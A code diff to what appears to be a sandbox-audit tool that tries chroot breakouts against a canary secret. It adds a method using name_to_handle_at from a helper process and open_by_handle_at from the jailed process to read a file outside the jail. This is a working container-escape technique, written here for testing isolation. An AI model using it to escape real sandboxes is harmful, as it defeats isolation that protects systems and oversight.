@@ -6,6 +6,7 @@ import static brig.audit.breakout.Steps.DIRECTORY;
 import brig.audit.breakout.AttemptEnd.Refused;
 import brig.audit.breakout.Puppet.Buffer;
 import brig.linux.Errno;
+import brig.linux.Fd;
 import brig.linux.LinuxException;
 import brig.linux.Names;
 import brig.report.BrigException;
@@ -17,6 +18,7 @@ final class RootWays {
   private static final int CLONE_NEWNS = 0x20000;
   private static final int ROOT_INODE = 2;
   private static final int FILEID_INO32_GEN = 1;
+  private static final int MAX_HANDLE = 128;
   private static final Guard NO_CHROOT = Guard.lacking("CAP_SYS_CHROOT");
 
   static final List<Attempt> ALL =
@@ -146,7 +148,14 @@ final class RootWays {
 
   private static String byHandle(Scene scene) throws AttemptEnd, BrigException, IOException {
     Puppet inmate = scene.inmate();
+    Puppet helper = scene.helper();
     long mount = inmate.must("openat", CWD, scene.place(""), DIRECTORY, 0);
+    return Steps.anyOf(
+        () -> byGuess(scene, inmate, mount), () -> byKnowledge(scene, inmate, mount, helper));
+  }
+
+  /** The root of an ext file system has the same number everywhere. */
+  private static String byGuess(Scene scene, Puppet inmate, long mount) throws AttemptEnd {
     // struct file_handle { u32 bytes; s32 type; u32 inode, generation }
     byte[] handle = Struct.of(16).u32(0, 8).u32(4, FILEID_INO32_GEN).u32(8, ROOT_INODE).bytes();
     long top = inmate.must("open_by_handle_at", mount, handle, DIRECTORY);
@@ -161,5 +170,15 @@ final class RootWays {
       }
     }
     throw last;
+  }
+
+  /** Other file systems have other handles; the secret's own is found out outside. */
+  private static String byKnowledge(Scene scene, Puppet inmate, long mount, Puppet helper)
+      throws AttemptEnd {
+    Buffer handle = helper.put(Struct.of(8 + MAX_HANDLE).u32(0, MAX_HANDLE).bytes());
+    Buffer mountId = helper.buffer(16);
+    helper.must("name_to_handle_at", CWD, scene.canary().secretPath(), handle, mountId, 0);
+    long file = inmate.must("open_by_handle_at", mount, helper.get(handle), Fd.O_RDONLY);
+    return Steps.secretIn(scene, inmate, file);
   }
 }
